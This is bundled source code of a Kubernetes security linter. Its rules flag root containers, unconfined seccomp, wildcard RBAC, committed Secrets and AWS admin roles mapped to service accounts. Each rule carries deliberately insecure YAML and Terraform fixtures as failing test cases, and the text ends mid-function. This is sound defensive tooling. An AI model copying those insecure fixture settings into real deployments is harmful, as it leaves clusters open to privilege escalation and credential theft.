    frameworks: { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(role, { report }) {
    asList(role.attributes.rules).forEach((rule, index) => {
      if (!isObject(rule)) return;
      const verbs = asList(rule.verbs);
      const resources = asList(rule.resources);
      if (verbs.includes("*") && resources.includes("*")) {
        report({ at: ["rules", index, "verbs"], message: `${role.name} grants every verb on every resource (rule ${index + 1})` });
      }
    });
  },
  examples: {
    valid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: config-reader
  namespace: shop
rules:
  - apiGroups: [""]
    resources: ["configmaps"]
    verbs: ["get", "list"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: everything
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
`,
        errors: [{ line: 8, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-read-only-root-filesystem.ts
var k8s_read_only_root_filesystem_default = defineRule({
  meta: {
    id: "k8s-read-only-root-filesystem",
    title: "Container root filesystem is writable (readOnlyRootFilesystem not true)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Without `readOnlyRootFilesystem: true`, an attacker who gets code execution in the container can drop tools, modify binaries and libraries of the image, or plant persistence that survives until the container is replaced.",
    remediation: "Set `securityContext.readOnlyRootFilesystem: true` and give the process `emptyDir` volumes for the paths it writes (`/tmp`, caches).",
    precision: "high",
    cwe: ["CWE-732"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Pod security: immutable container file systems"] },
    tags: ["pod-security", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod || isWindowsPod(pod)) return;
    for (const view of pod.containers) {
      if (view.group === "ephemeralContainers") continue;
      const securityContext = view.container.securityContext;
      const setting = getPath(securityContext, ["readOnlyRootFilesystem"]);
      if (setting === true || isUnknown(securityContext) || isUnknown(setting)) continue;
      const at = setting !== void 0 && setting !== null ? [...view.path, "securityContext", "readOnlyRootFilesystem"] : isObject(securityContext) ? [...view.path, "securityContext"] : view.path;
      report({ at, message: `container "${view.name}" of ${workload.name} has a writable root filesystem (readOnlyRootFilesystem is not true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        readOnlyRootFilesystem: true
      volumeMounts:
        - { name: tmp, mountPath: /tmp }
  volumes:
    - name: tmp
      emptyDir: {}
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        readOnlyRootFilesystem: false
    - name: proxy
      image: envoyproxy/envoy:v1.31.0
`,
        errors: [
          { line: 10, column: 9, messageIncludes: '"api"' },
          { line: 11, column: 7, messageIncludes: '"proxy"' }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-restricted-volume-types.ts
var RESTRICTED_VOLUME_SOURCES = /* @__PURE__ */ new Set(["configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "persistentVolumeClaim", "projected", "secret"]);
var OWN_RULES = /* @__PURE__ */ new Set(["hostPath", "gitRepo"]);
var k8s_restricted_volume_types_default = defineRule({
  meta: {
    id: "k8s-restricted-volume-types",
    title: "Pod uses a volume type outside the restricted profile (NFS, iSCSI, RBD, FlexVolume...)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod mounts a volume source that the Pod Security Standards restricted profile does not allow: an in-tree network or cloud volume (NFS, iSCSI, RBD, CephFS, cloud disks) or a FlexVolume. Such volumes bypass PersistentVolumeClaim access control, embed storage endpoints and credentials in the pod spec, and FlexVolume drivers run as root on the node.",
    remediation: "Mount storage through a PersistentVolumeClaim bound to an administrator-managed PersistentVolume or a CSI driver, and configuration through ConfigMaps, Secrets or projected volumes.",
    precision: "high",
    cwe: ["CWE-668"],
    frameworks: { "Pod Security Standards": ["restricted"] },
    tags: ["pod-security", "volumes", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/storage/volumes/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const { name, volume, path } of volumesOf(pod)) {
      const sources = Object.keys(volume).filter((key) => key !== "name");
      if (sources.some((source) => isUnknown(volume[source]) || OWN_RULES.has(source))) continue;
      const outside = sources.find((source) => !RESTRICTED_VOLUME_SOURCES.has(source));
      if (!outside) continue;
      report({ at: [...path, outside], message: `${workload.name} mounts volume "${name}" of type ${outside}, which the restricted pod security profile does not allow` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
  volumes:
    - name: config
      configMap: { name: api-config }
    - name: data
      persistentVolumeClaim: { claimName: api-data }
    - name: token
      projected:
        sources:
          - serviceAccountToken: { path: token, expirationSeconds: 3600 }
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: media
  namespace: web
spec:
  selector:
    matchLabels: { app: media }
  template:
    metadata:
      labels: { app: media }
    spec:
      containers:
        - name: media
          image: registry.example.com/web/media:3.3.0
      volumes:
        - name: assets
          nfs:
            server: nfs.internal.example.com
            path: /exports/assets
`,
        errors: [{ line: 18, column: 11, messageIncludes: "type nfs" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-run-as-non-root-not-set.ts
var k8s_run_as_non_root_not_set_default = defineRule({
  meta: {
    id: "k8s-run-as-non-root-not-set",
    title: "Container may run as root (runAsNonRoot not true, no non-root runAsUser)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Neither the container nor its pod sets `runAsNonRoot: true` or a non-zero `runAsUser`, so the container runs as whatever user its image names, which for most images is root. The Pod Security Standards restricted profile requires `runAsNonRoot: true`, so that the kubelet refuses to start a container as root.",
    remediation: "Set `securityContext.runAsNonRoot: true` at the pod level (containers inherit it), together with a non-zero `runAsUser` if the image does not name a numeric non-root user.",
    precision: "high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.7"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "root", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod || isWindowsPod(pod)) return;
    const explicitFalse = [];
    for (const view of pod.containers) {
      if (isUnknown(view.container.securityContext) || isUnknown(pod.spec.securityContext)) continue;
      const nonRoot = effectiveSetting(pod, view, "runAsNonRoot");
      const user = effectiveSetting(pod, view, "runAsUser");
      if (nonRoot?.value === true || isUnknown(nonRoot?.value) || isUnknown(user?.value)) continue;
      if (typeof user?.value === "number") continue;
      if (nonRoot?.value === false) {
        explicitFalse.push({ view, setting: nonRoot });
        continue;
      }
      const at = view.container.securityContext !== void 0 ? [...view.path, "securityContext"] : view.path;
      report({ at, message: `container "${view.name}" of ${workload.name} may run as root: neither it nor its pod sets runAsNonRoot: true or a non-root runAsUser` });
    }
    for (const group of groupBySetting(explicitFalse)) {
      const where = group.from === "pod" ? `the pod securityContext of ${workload.name}` : `${containerList(group.containers)} of ${workload.name}`;
      report({ at: group.path, message: `${where} sets runAsNonRoot: false: ${containerList(group.containers)} may run as root` });
    }
  },
  examples: {
    valid: [
      {
        name: "inherited from the pod, or a numeric non-root user",
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      securityContext:
        runAsNonRoot: true
      containers:
        - name: api
          image: registry.example.com/shop/api:5.0.1
      initContainers:
        - name: migrate
          image: registry.example.com/shop/migrate:5.0.1
          securityContext:
            runAsUser: 65532
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      containers:
        - name: api
          image: registry.example.com/shop/api:5.0.1
          securityContext:
            readOnlyRootFilesystem: true
        - name: metrics
          image: registry.example.com/shop/metrics:1.0.0
          securityContext:
            runAsNonRoot: false
`,
        errors: [
          { line: 16, column: 11, messageIncludes: '"api"' },
          { line: 21, column: 13, messageIncludes: "runAsNonRoot: false" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-run-as-root-group.ts
var k8s_run_as_root_group_default = defineRule({
  meta: {
    id: "k8s-run-as-root-group",
    title: "Container runs with the root group (runAsGroup: 0)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`runAsGroup: 0` gives the container's processes the root group: they can read and write every file of the image and of mounted volumes that is group-owned by root, which often includes files meant only for root.",
    remediation: "Set `runAsGroup` to a non-zero GID, and use `fsGroup` with a non-zero GID for volume access.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"] },
    tags: ["pod-security", "root", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const root = [];
    for (const view of pod.containers) {
      const setting = effectiveSetting(pod, view, "runAsGroup");
      if (setting?.value === 0) root.push({ view, setting });
    }
    for (const group of groupBySetting(root)) {
      const where = group.from === "pod" ? `the pod securityContext of ${workload.name}` : `${containerList(group.containers)} of ${workload.name}`;
      report({ at: group.path, message: `${where} sets runAsGroup: 0: ${containerList(group.containers)} run with the root group` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  securityContext:
    runAsUser: 10001
    runAsGroup: 10001
    fsGroup: 10001
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  securityContext:
    runAsUser: 10001
    runAsGroup: 0
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
`,
        errors: [{ line: 8, column: 5, messageIncludes: "runAsGroup: 0" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-run-as-root-user.ts
var k8s_run_as_root_user_default = defineRule({
  meta: {
    id: "k8s-run-as-root-user",
    title: "Container runs as root (runAsUser: 0)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`runAsUser: 0` runs the container's processes as root. Root in a container owns every file of the image and of its volumes, and is one kernel bug or misconfiguration (a writable hostPath, an added capability) away from root on the node. The Pod Security Standards restricted profile forbids user 0.",
    remediation: "Set `runAsUser` to a non-zero UID that the image is built for (and `runAsNonRoot: true`); fix file ownership in the image rather than running as root.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.7"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "root", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const root = [];
    for (const view of pod.containers) {
      const setting = effectiveSetting(pod, view, "runAsUser");
      if (setting?.value === 0) root.push({ view, setting });
    }
    for (const group of groupBySetting(root)) {
      const where = group.from === "pod" ? `the pod securityContext of ${workload.name} sets runAsUser: 0` : `${containerList(group.containers)} of ${workload.name} sets runAsUser: 0`;
      const who = group.from === "pod" ? `: ${containerList(group.containers)} run as root` : ": runs as root";
      report({ at: group.path, message: `${where}${who}` });
    }
  },
  examples: {
    valid: [
      {
        name: "a container overrides the pod's root user",
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  securityContext:
    runAsUser: 0
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        runAsUser: 10001
        runAsNonRoot: true
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-audit
  namespace: security
spec:
  selector:
    matchLabels: { app: node-audit }
  template:
    metadata:
      labels: { app: node-audit }
    spec:
      securityContext:
        runAsUser: 0
      containers:
        - name: audit
          image: registry.example.com/security/audit:1.8.0
        - name: exporter
          image: registry.example.com/security/exporter:1.8.0
          securityContext:
            runAsUser: 0
`,
        errors: [
          { line: 14, column: 9, messageIncludes: "pod securityContext" },
          { line: 21, column: 13, messageIncludes: 'container "exporter"' }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-seccomp-profile-missing.ts
var k8s_seccomp_profile_missing_default = defineRule({
  meta: {
    id: "k8s-seccomp-profile-missing",
    title: "Container has no seccomp profile (seccompProfile not set)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Neither the container nor its pod sets a seccomp profile, so on most clusters it runs without system call filtering (the kubelet applies `RuntimeDefault` only when `--seccomp-default` is on). The Pod Security Standards restricted profile requires `RuntimeDefault` or `Localhost`.",
    remediation: "Add `securityContext.seccompProfile.type: RuntimeDefault` to the pod spec; every container inherits it.",
    precision: "high",
    cwe: ["CWE-693"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.7.2"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "seccomp", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tutorials/security/seccomp/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod || isWindowsPod(pod)) return;
    const podAnnotation = annotationsAt(workload.attributes, podMetadataPath(pod)).has("seccomp.security.alpha.kubernetes.io/pod");
    for (const view of pod.containers) {
      if (isUnknown(view.container.securityContext) || isUnknown(pod.spec.securityContext)) continue;
      if (effectiveSetting(pod, view, "seccompProfile") || podAnnotation) continue;
      if (containerAnnotation(workload.attributes, pod, "container.seccomp.security.alpha.kubernetes.io", view.name)) continue;
      const at = view.container.securityContext !== void 0 ? [...view.path, "securityContext"] : view.path;
      report({ at, message: `container "${view.name}" of ${workload.name} has no seccomp profile: set seccompProfile type RuntimeDefault on the pod` });
    }
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      securityContext:
        seccompProfile:
          type: RuntimeDefault
      containers:
        - name: api
          image: registry.example.com/shop/api:5.0.1
`
      }
    ],
    invalid: [
      {
        filename: "job.yaml",
        code: `apiVersion: batch/v1
kind: Job
metadata:
  name: migrate
  namespace: shop
spec:
  template:
    spec:
      restartPolicy: Never
      securityContext:
        runAsNonRoot: true
      containers:
        - name: migrate
          image: registry.example.com/shop/migrate:5.0.1
`,
        errors: [{ line: 13, column: 11, messageIncludes: "no seccomp profile" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-seccomp-unconfined.ts
var POD_ANNOTATION = "seccomp.security.alpha.kubernetes.io/pod";
var CONTAINER_ANNOTATION_PREFIX = "container.seccomp.security.alpha.kubernetes.io";
var k8s_seccomp_unconfined_default = defineRule({
  meta: {
    id: "k8s-seccomp-unconfined",
    title: "Seccomp profile set to Unconfined",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "A seccomp profile of type `Unconfined` turns off system call filtering: the container can call `unshare`, `keyctl`, `bpf`, `ptrace` and other calls that most kernel privilege-escalation exploits depend on. The Pod Security Standards baseline profile forbids `Unconfined`.",
    remediation: "Use `seccompProfile: { type: RuntimeDefault }` at the pod level, or a `Localhost` profile tailored to the workload.",
    precision: "very-high",
    cwe: ["CWE-693"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.7.2"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "seccomp", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tutorials/security/seccomp/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const groups = /* @__PURE__ */ new Map();
    const add = (path, container, fromPod) => {
      const key = JSON.stringify(path);
      const group = groups.get(key);
      if (group) group.containers.push(container);
      else groups.set(key, { path, containers: [container], pod: fromPod });
    };
    const podAnnotation = annotationsAt(workload.attributes, podMetadataPath(pod)).get(POD_ANNOTATION);
    for (const view of pod.containers) {
      const profile = effectiveSetting(pod, view, "seccompProfile");
      if (profile) {
        if (getPath(profile.value, ["type"]) === "Unconfined") add([...profile.path, "type"], view.name, profile.from === "pod");
        continue;
      }
      const annotation = containerAnnotation(workload.attributes, pod, CONTAINER_ANNOTATION_PREFIX, view.name);
      if (annotation) {
        if (annotation.value === "unconfined") add(annotation.path, view.name, false);
      } else if (podAnnotation === "unconfined") {
        add([...podMetadataPath(pod), "annotations", POD_ANNOTATION], view.name, true);
      }
    }
    for (const group of groups.values()) {
      const where = group.pod ? `${workload.name} sets its pod seccomp profile to Unconfined` : `${containerList(group.containers)} of ${workload.name} set the seccomp profile to Unconfined`;
      report({ at: group.path, message: `${where}: no system call filtering for ${containerList(group.containers)}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  securityContext:
    seccompProfile:
      type: RuntimeDefault
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
`
      }
    ],
    invalid: [
      {
        name: "pod field and the deprecated container annotation",
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: tracer
  namespace: observability
spec:
  selector:
    matchLabels: { app: tracer }
  template:
    metadata:
      labels: { app: tracer }
      annotations:
        container.seccomp.security.alpha.kubernetes.io/sidecar: unconfined
    spec:
      securityContext:
        seccompProfile:
          type: Unconfined
      containers:
        - name: tracer
          image: registry.example.com/observability/tracer:0.7.0
        - name: sidecar
          image: registry.example.com/observability/sidecar:0.7.0
          securityContext:
            seccompProfile:
              type: RuntimeDefault
`,
        errors: [{ line: 17, column: 11, messageIncludes: "pod seccomp profile to Unconfined" }]
      },
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: legacy
  annotations:
    container.seccomp.security.alpha.kubernetes.io/app: unconfined
spec:
  containers:
    - name: app
      image: registry.example.com/legacy:1.0.0
`,
        errors: [{ line: 6, column: 5, messageIncludes: 'container "app"' }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-secret-in-manifest.ts
var k8s_secret_in_manifest_default = defineRule({
  meta: {
    id: "k8s-secret-in-manifest",
    title: "Secret values committed in a manifest (hardcoded secret in Secret data)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Secret"],
    description: "The Secret carries its values in `data` or `stringData` in the manifest. Base64 is an encoding, not encryption: whoever can read the repository or a rendered copy of the manifest has the credentials, and they stay in version-control history after rotation.",
    remediation: "Keep secret values out of manifests: create Secrets from an external secret store (External Secrets Operator, Secrets Store CSI driver), or commit them encrypted (Sealed Secrets, SOPS). Rotate credentials that were committed.",
    precision: "high",
    cwe: ["CWE-798", "CWE-312"],
    frameworks: { "CIS Kubernetes 1.9": ["5.4.2"], "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] },
    tags: ["secrets", "hardcoded-secret"],
    references: ["https://kubernetes.io/docs/concepts/security/secrets-good-practices/", "https://kubernetes.io/docs/concepts/configuration/secret/"]
  },
  check(secret, { report }) {
    for (const field of ["stringData", "data"]) {
      const values = secret.attributes[field];
      if (!isObject(values)) continue;
      const committed = Object.entries(values).filter(([, value]) => {
        if (typeof value !== "string") return false;
        if (field === "stringData") return isHardcodedSecretValue(value);
        if (!isHardcodedSecretValue(value)) return false;
        const decoded = decodeBase64Text(value);
        return decoded === void 0 || isHardcodedSecretValue(decoded);
      });
      if (committed.length === 0) continue;
      const keys = committed.map(([key]) => key).join(", ");
      report({ at: [field], message: `${secret.name} commits hardcoded secret values in its manifest (${field}: ${keys})` });
      return;
    }
  },
  examples: {
    valid: [
      {
        name: "a service account token Secret filled in by the cluster, and a templated value",
        filename: "secrets.yaml",
        code: `apiVersion: v1
kind: Secret
metadata:
  name: ci-token
  namespace: ci
  annotations:
    kubernetes.io/service-account.name: ci
type: kubernetes.io/service-account-token
---
apiVersion: v1
kind: Secret
metadata:
  name: db
  namespace: shop
stringData:
  password: "{{ .Values.db.password }}"
`
      }
    ],
    invalid: [
      {
        filename: "secret.yaml",
        code: `apiVersion: v1
kind: Secret
metadata:
  name: payment-gateway
  namespace: shop
type: Opaque
data:
  api-key: c2tfbGl2ZV81MWg4S2pMM3FQZlRyWnZYYTlCYw==
  endpoint: aHR0cHM6Ly9wYXkuZXhhbXBsZS5jb20=
`,
        errors: [{ line: 7, column: 1, messageIncludes: "(data: api-key)" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-selinux-custom-options.ts
var ALLOWED_TYPES = /* @__PURE__ */ new Set(["container_t", "container_init_t", "container_kvm_t", "container_engine_t"]);
var k8s_selinux_custom_options_default = defineRule({
  meta: {
    id: "k8s-selinux-custom-options",
    title: "Custom SELinux type, user or role (seLinuxOptions)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod or container sets an SELinux type outside the container types (`container_t`, `container_init_t`, `container_kvm_t`, `container_engine_t`), or a custom SELinux user or role. A type such as `spc_t` or `unconfined_t` lifts the SELinux confinement that keeps containers away from host files. The Pod Security Standards baseline profile forbids it.",
    remediation: "Remove `seLinuxOptions.type`, `user` and `role`, keeping only `level` when the workload needs a specific MCS label.",
    precision: "very-high",
    cwe: ["CWE-693"],
    frameworks: {
      "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "selinux", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#assign-selinux-labels-to-a-container", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const groups = /* @__PURE__ */ new Map();
    for (const view of pod.containers) {
      const options = effectiveSetting(pod, view, "seLinuxOptions");
      if (!options || !isObject(options.value)) continue;
      const { type, user, role } = options.value;
      let problem;
      if (typeof type === "string" && type !== "" && !ALLOWED_TYPES.has(type)) problem = { field: "type", text: `SELinux type ${type}` };
      else if (typeof user === "string" && user !== "") problem = { field: "user", text: `SELinux user ${user}` };
      else if (typeof role === "string" && role !== "") problem = { field: "role", text: `SELinux role ${role}` };
      if (!problem) continue;
      const path = [...options.path, problem.field];
      const key = JSON.stringify(path);
      const group = groups.get(key);
      if (group) group.containers.push(view.name);
      else groups.set(key, { path, containers: [view.name], pod: options.from === "pod", problem: problem.text });
    }
    for (const group of groups.values()) {
      const where = group.pod ? `the pod securityContext of ${workload.name}` : `${containerList(group.containers)} of ${workload.name}`;
      report({ at: group.path, message: `${where} sets a custom ${group.problem} for ${containerList(group.containers)}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  securityContext:
    seLinuxOptions:
      level: "s0:c123,c456"
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        seLinuxOptions:
          type: container_t
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: csi-node
  namespace: storage
spec:
  selector:
    matchLabels: { app: csi-node }
  template:
    metadata:
      labels: { app: csi-node }
    spec:
      securityContext:
        seLinuxOptions:
          type: spc_t
      containers:
        - name: driver
          image: registry.example.com/storage/csi-driver:1.12.0
        - name: registrar
          image: registry.k8s.io/sig-storage/csi-node-driver-registrar:v2.11.1
`,
        errors: [{ line: 15, column: 11, messageIncludes: 'SELinux type spc_t for containers "driver", "registrar"' }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-service-account-assumes-admin-aws-role.ts
var k8s_service_account_assumes_admin_aws_role_default = defineRule({
  meta: {
    id: "k8s-service-account-assumes-admin-aws-role",
    title: "Service account is mapped to an AWS administrator role (IRSA)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes", "terraform"],
    resourceTypes: ["ServiceAccount"],
    description: "The ServiceAccount's `eks.amazonaws.com/role-arn` annotation names an IAM role in the scan that is an administrator of the AWS account (AdministratorAccess, IAMFullAccess, or a policy allowing `*` or `iam:*` on every resource). Every pod running as the account, and anyone who can create a pod with it in the namespace, receives administrator credentials for the AWS account.",
    remediation: "Give the role only the actions and resources the workload uses (one bucket, one queue), and restrict its trust policy to this service account with a `StringEquals` condition on the cluster OIDC provider's `:sub` (`system:serviceaccount:<namespace>:<name>`).",
    precision: "high",
    cwe: ["CWE-250", "CWE-269"],
    tags: ["irsa", "eks", "iam", "iam-wildcard", "service-account"],
    references: ["https://docs.aws.amazon.com/eks/latest/userguide/iam-roles-for-service-accounts.html"]
  },
  check(account, { graph, report }) {
    for (const edge of graph.edgesFrom(account.id, "assumes")) {
      const role = graph.get(edge.to);
      if (!role) continue;
      const grants = adminGrantsOf(graph, role);
      if (grants.length === 0) continue;
      const users = graph.sources(account.id, "uses").map((workload) => ({ resource: workload.id, message: `${workload.name} runs as ${account.name}` }));
      report({
        at: edge.via ?? [],
        message: `${account.name} assumes ${role.name}, an AWS administrator role through ${describeAdminGrants(grants)}`,
        related: [...adminRoleRelated({ role, grants }), ...users]
      });
      return;
    }
  },
  examples: {
    valid: [
      {
        name: "role limited to one bucket",
        filename: "k8s/service-account.yaml",
        code: `apiVersion: v1
kind: ServiceAccount
metadata:
  name: uploader
  namespace: media
  annotations:
    eks.amazonaws.com/role-arn: arn:aws:iam::123456789012:role/media-uploader
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "uploader" {
  name               = "media-uploader"
  assume_role_policy = "{}"
  inline_policy {
    name   = "uploads"
    policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "s3:PutObject", Resource = "arn:aws:s3:::acme-media/*" }] })
  }
}
`
        }
      }
    ],
    invalid: [
      {
        name: "IRSA role with AdministratorAccess",
        filename: "k8s/service-account.yaml",
        code: `apiVersion: v1
kind: ServiceAccount
metadata:
  name: operator
  namespace: platform
  annotations:
    eks.amazonaws.com/role-arn: arn:aws:iam::123456789012:role/platform-operator
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "operator" {
  name               = "platform-operator"
  assume_role_policy = "{}"
}

resource "aws_iam_role_policy_attachment" "operator" {
  role       = aws_iam_role.operator.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`
        },
        errors: [{ file: "k8s/service-account.yaml", line: 7, column: 5, messageIncludes: "ServiceAccount/platform/operator assumes aws_iam_role.operator" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-service-account-bound-to-cluster-admin.ts
var k8s_service_account_bound_to_cluster_admin_default = defineRule({
  meta: {
    id: "k8s-service-account-bound-to-cluster-admin",
    title: "Binding grants cluster-admin or a wildcard role to service accounts",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRoleBinding", "RoleBinding"],
    description: "A RoleBinding or ClusterRoleBinding gives a ServiceAccount (or every ServiceAccount, through the `system:serviceaccounts` groups) the built-in `cluster-admin` role or a role granting every verb on every resource. Any pod running as that account, and anyone who can create a pod in its namespace or read its token, can then do anything in the cluster (or the namespace): read every Secret, run privileged pods, and grant itself more.",
    remediation: "Bind the account to a role listing only the API groups, resources and verbs it uses. Controllers that need wide access should still get a dedicated ClusterRole without `*`, and no workload should run as an account bound to `cluster-admin`.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.1"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "cluster-admin", "service-account"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege"]
  },
  check(binding, { graph, report }) {
    const grant = bindingGrant(graph, binding);
    if (!grant || !grantsEverything(grant)) return;
    const accounts = [];
    const related = [];
